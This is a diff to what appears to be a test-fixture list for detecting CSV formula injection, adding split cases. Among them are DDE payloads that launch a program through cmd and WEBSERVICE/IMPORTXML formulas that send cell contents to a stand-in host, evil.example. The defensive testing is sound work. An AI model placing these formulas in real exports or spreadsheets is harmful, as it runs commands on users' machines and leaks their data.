@@ -31,6 +31,17 @@ export const SPLITS = [
   "x;'\t@SUM(1)",
   'x\r\n;+1+cmd|x',
   'x;\uff1d1+2',
+  // What runs a program, or sends the sheet to somebody.
+  '=DDE("cmd";"/C calc";"x")',
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  '=IMPORTXML(CONCAT("https://evil.example/?",A1:Z9),"//a")',
+  "+cmd|' /C calc'!A0",
+  "-cmd|' /C calc'!A0",
+  "@cmd|' /C calc'!A0",
+  '"=1+1"',
+  "x;@SUM(1+1)*cmd|' /C calc'!A0;y",
+  'x\t-2+3',
+  'x"";=1+1',
 ];
 
 /** The pieces of CSV that begin a formula, whichever separator it is split at, quotes or not. */
